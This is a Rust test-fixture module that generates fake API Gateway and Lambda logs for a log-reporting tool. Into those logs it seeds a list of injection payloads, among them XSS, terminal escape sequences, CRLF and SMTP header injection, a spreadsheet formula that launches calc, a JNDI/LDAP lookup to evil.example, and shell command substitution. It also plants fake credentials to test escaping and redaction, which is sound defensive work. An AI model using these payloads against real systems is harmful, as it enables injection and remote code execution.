//! Texts that would do something somewhere, and the log lines in which they come.

use std::fs;
use std::path::Path;

use serde_json::json;

/// 2026-11-22T10:00:00Z
const BEGIN: i64 = 1_795_341_600_000;

/// What would do something somewhere.
const HOSTILE: [&[u8]; 36] = [
    b"<!channel> <!here|x>",
    b"@everyone @here",
    b"<@U123ABC>",
    b"*bold* _it_ ~gone~",
    b"[x](javascript:1)",
    b"![x](https://evil.example/x.png)",
    b"<https://evil.example|click>",
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"<at>Somebody</at>",
    b"\x1b[2J\x1b[31m",
    b"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    b"\x1b]52;c;ZXZpbA==\x07",
    b"\xc2\x9b31m\xc2\x9d0;title\xc2\x9c",
    b"a\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1",
    b"a\nBcc: evil@evil.example\n\nbody",
    b"\r\n.\r\nMAIL FROM:<evil@evil.example>",
    b"=cmd|' /C calc'!A0",
    b"+1+1",
    b"-1",
    b"@SUM(A1)",
    b"%n%s%n 50%",
    b"${x} ${jndi:ldap://evil.example}",
    b"`touch evil`",
    b"$(touch evil)",
    b"'; touch evil; '",
    b"| touch evil | 'x'=1;;;",
    b"abc\xe2\x80\xaetxt.exe\xe2\x81\xa6",
    b"a\xe2\x80\x8bb\xef\xbb\xbf\xf3\xa0\x81\x81",
    b"a\x00b",
    b"\xff\xfe\xc0\x80 broken",
    b"\"} corscope_evil{x=\"1\"} 1",
    b"{{7*7}} @{triggerBody()} \\u003c\\",
    b"\xe2\x80\xa8line\xe2\x80\xa9paragraph\x0b\x0c",
    b"</title>&lt;!channel&gt; &#60;b&#62;",
    b":rotating_light: tel:1 mailto:a@evil.example",
];

/// No part of them may come out anywhere.
pub(crate) fn secrets() -> Vec<String> {
    let jwt = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiJmYWtlLXVzZXIifQ", "c2lnbmF0dXJlLWZha2UtMDEyMw"];
    vec![
        jwt.join("."),
        format!("AKIA{}", "FAKE0FAKE0FAKE0F"),
        "FAKE-SESSION-0123456789abcdef".to_owned(),
        "FAKE-BASIC-dXNlcjpwYXNz".to_owned(),
        "FAKE-HOOK-KEY-4242".to_owned(),
        "FAKE-SLACK-PATH-4242".to_owned(),
        "0123456789abcdef0123456789abcdef".to_owned(),
        "FAKE-GENIE-KEY-4242".to_owned(),
    ]
}

/// One request, as the lines of an execution log and of the function's own.
struct Lines {
    gateway: Vec<Vec<u8>>,
    function: Vec<Vec<u8>>,
}

/// The text as the allowed origin, in the path, the agent and the origin, or in an error.
fn request(number: usize, text: &[u8], secrets: &[String]) -> Lines {
    let id = format!("00000000-0000-4000-8000-{number:012}");
    let run = format!("11111111-0000-4000-8000-{number:012}");
    let mark = format!("mark{number:03}x");
    let text = [text, mark.as_bytes()].concat();
    let line = |parts: &[&[u8]]| [&[format!("({id}) ").as_bytes()], parts].concat().concat();
    let [jwt, key, session, basic, ..] = secrets else { unreachable!("there are more") };
    let is_error = number % 3 == 2;
    let fixed: &[u8] = b"https://shop.example";
    let (origin, path): (&[u8], &[u8]) =
        if number % 3 == 1 { (&text, b"orders") } else { (fixed, &text) };
    let mut gateway = vec![
        line(&[format!("Starting execution for request: {id}").as_bytes()]),
        line(&[b"HTTP Method: GET, Resource Path: /v1/", path]),
        line(&[
            b"Method request headers: {origin=",
            origin,
            b", sec-fetch-mode=cors, User-Agent=",
            &text,
            format!(", Authorization=Bearer {jwt}, Cookie=session={session}, x-api-key={key}")
                .as_bytes(),
            b", Host=api.shop.example}",
        ]),
    ];
    let mut function = Vec::new();
    let failure = format!(" Authorization: Basic {basic} token={jwt} {key}");
    if is_error {
        function = [
            format!("START RequestId: {run} Version: $LATEST\n").into_bytes(),
            [&b"[ERROR] ValueError: "[..], &text, failure.as_bytes(), b"\n"].concat(),
            format!("END RequestId: {run}\n").into_bytes(),
            format!("REPORT RequestId: {run}\tDuration: 3.10 ms\tBilled Duration: 4 ms\t\n")
                .into_bytes(),
        ]
        .to_vec();
        gateway.push(line(&[
            b"Lambda execution failed with status 200 due to customer function error: ",
            &text,
            failure.as_bytes(),
            format!(". Lambda request id: {run}").as_bytes(),
        ]));
        gateway.push(line(&[b"Method completed with status: 502"]));
    } else {
        let allowed: &[u8] =
            if number.is_multiple_of(3) { &text } else { b"https://other.example" };
        gateway.push(line(&[
            b"Method response headers: {Access-Control-Allow-Origin=",
            allowed,
            format!(", Set-Cookie=session={session}, Content-Type=application/json}}").as_bytes(),
        ]));
        gateway.push(line(&[b"Method completed with status: 200"]));
    }
    Lines { gateway, function }
}

/// Writes everything as plain text, where no line end is in it, and as JSON of the AWS CLI.
pub(crate) fn write_logs(folder: &Path, secrets: &[String]) {
    let stamp = b"2026-11-22T10:00:00.000Z ";
    let long = [b"A".repeat(100_000), b"/<b>\x1b[1m".to_vec()].concat();
    let texts = HOSTILE.iter().map(|text| text.to_vec()).chain([long]);
    let (mut plain, mut functions) = (Vec::new(), Vec::new());
    let mut events = Vec::new();
    for (at, text) in texts.enumerate() {
        for kind in 0..3 {
            let number = at * 3 + kind;
            let Lines { gateway, function } = request(number, &text, secrets);
            if text.contains(&b'\n') || number % 2 == 0 {
                for (stream, lines) in [("gateway", &gateway), ("function", &function)] {
                    events.extend(lines.iter().map(|line| {
                        let message = String::from_utf8_lossy(line);
                        json!({"logStreamName": stream, "timestamp": BEGIN + number as i64, "message": message})
                    }));
                }
            } else {
                plain.extend(gateway.iter().flat_map(|line| [&stamp[..], line, b"\n"].concat()));
                functions.extend(function.iter().flat_map(|line| [&stamp[..], line].concat()));
            }
        }
    }
    fs::write(folder.join("gateway.log"), plain).unwrap();
    fs::write(folder.join("function.log"), functions).unwrap();
    fs::write(folder.join("events.json"), json!({ "events": events }).to_string()).unwrap();
}
